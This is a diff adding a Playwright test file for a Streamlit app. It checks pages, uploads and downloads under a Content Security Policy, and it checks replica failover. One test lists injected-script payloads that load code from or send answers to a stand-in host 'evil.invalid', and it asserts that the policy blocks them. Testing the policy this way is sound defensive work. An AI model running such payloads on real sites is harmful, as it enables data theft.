@@ -1,0 +1,125 @@
+"""The pages in a real Chromium, under the shipped security headers."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, ConsoleMessage, Page, expect
+
+from logic.wording import common, keep, questionnaire, start
+from logic.wording import group_page as wording
+from tests.browser import kept
+from tests.browser.chart import CHART
+from tests.browser.person import CATALOGUE, Person
+from tests.browser.records import choose
+from tests.browser.tables import people
+from tests.deploy.conftest import QUIET
+from tests.deploy.proxy import Proxy, proxy
+from tools.served import running
+from ui.routes import Name
+
+ASKED = CATALOGUE.by_factor[CATALOGUE.themes[0].factors[0]]
+POLICY = "Content Security Policy"
+# Streamlit finds out at which path it is by asking; each guess that is wrong is told like this.
+GUESSED = "the server responded with a status of 404"
+
+
+class Watched:
+    """A page of its own, and what its console said that it should not."""
+
+    def __init__(self, browser: Browser) -> None:
+        # The certificate is its own issuer.
+        self.context = browser.new_context(ignore_https_errors=True, reduced_motion="reduce")
+        self.page: Page = self.context.new_page()
+        self.said: list[str] = []
+        self.page.on("console", self._hear)
+        self.page.on("pageerror", lambda error: self.said.append(str(error)))
+
+    def _hear(self, message: ConsoleMessage) -> None:
+        if POLICY in message.text or (message.type == "error" and GUESSED not in message.text):
+            self.said.append(message.text)
+
+
+@pytest.fixture
+def watched(browser: Browser) -> Iterator[Watched]:
+    """Return a page that is watched."""
+    watched = Watched(browser)
+    yield watched
+    watched.context.close()
+
+
+def test_pages_charts_uploads_and_downloads_work_under_the_policy(
+    front: Proxy, watched: Watched, tmp_path: Path
+) -> None:
+    person = Person(watched.page, front.address)
+    person.open()
+    person.heading(start.TITLE)
+    person.follow(common.PAGE_TITLES[Name.GROUP], wording.TITLE)
+    choose(person, people(tmp_path))
+    person.sees("60 rows were read.")
+    expect(watched.page.locator(CHART).first).to_be_visible()
+    expect(watched.page.locator(f"{CHART} [aria-roledescription=bar]").first).to_be_visible()
+    person.press(wording.MAKE)
+    button = watched.page.get_by_test_id("stDownloadButton").get_by_role("button")
+    with watched.page.expect_download() as saved:
+        person.use(button)
+    assert saved.value.path().read_text("utf-8-sig").startswith('"site",')
+    for name in (Name.PRIVACY, Name.EVIDENCE, Name.COACH):
+        person.open(name)
+    assert watched.said == []
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "document.head.append(Object.assign(document.createElement('script'), {text: '1'}))",
+        "document.head.append(Object.assign(document.createElement('script'),"
+        " {src: 'https://evil.invalid/x.js'}))",
+        "fetch('https://evil.invalid/?answers').catch(() => 0)",
+        "new Image().src = 'https://evil.invalid/?answers'",
+        "setTimeout('1')",
+    ],
+    ids=["own script", "script from elsewhere", "sending", "image", "text as code"],
+)
+def test_what_an_attacker_would_do_is_stopped(front: Proxy, watched: Watched, attack: str) -> None:
+    watched.page.goto(f"{front.address}/_stcore/health")
+    with watched.page.expect_console_message(lambda said: POLICY in said.text):
+        watched.page.evaluate(attack)
+
+
+def test_when_its_replica_dies_an_open_page_goes_on_at_the_other_with_what_was_kept(
+    watched: Watched, tmp_path: Path
+) -> None:
+    with (
+        running(**QUIET) as first,
+        running(**QUIET) as second,
+        proxy(tmp_path, (first.port, second.port)) as own,
+    ):
+        person = Person(watched.page, own.address)
+        keep_an_answer(person)
+        mine = own.served("page")[-1]["replica"]
+        dies = {f"127.0.0.1:{server.port}": server for server in (first, second)}[mine]
+        dies.process.kill()
+        dies.process.wait()
+        connected = watched.page.locator("[data-test-connection-state=CONNECTED]")
+        expect(connected).to_have_count(0)
+        expect(connected).to_have_count(1)
+        person.press(questionnaire.NEXT)
+        person.sees("are back, as kept in this browser")
+        person.at_step(1)
+        expect(person.radio(ASKED.question, ASKED.worst.label)).to_be_checked()
+        # Its own replica is back; the page is at the other, and so is what it uploads.
+        with running(port=dies.port, **QUIET):
+            person.follow(common.PAGE_TITLES[Name.GROUP], wording.TITLE)
+            choose(person, people(tmp_path))
+            person.sees("60 rows were read.")
+
+
+def keep_an_answer(person: Person) -> None:
+    """Choose to keep the answers in the browser, and give one."""
+    person.begin()
+    person.use(person.page.get_by_text(keep.KEEP, exact=True))
+    person.answer(ASKED, ASKED.worst.id)
+    person.page.wait_for_function(
+        "([key, text]) => localStorage.getItem(key)?.includes(text)", arg=[kept.KEY, ASKED.id]
+    )
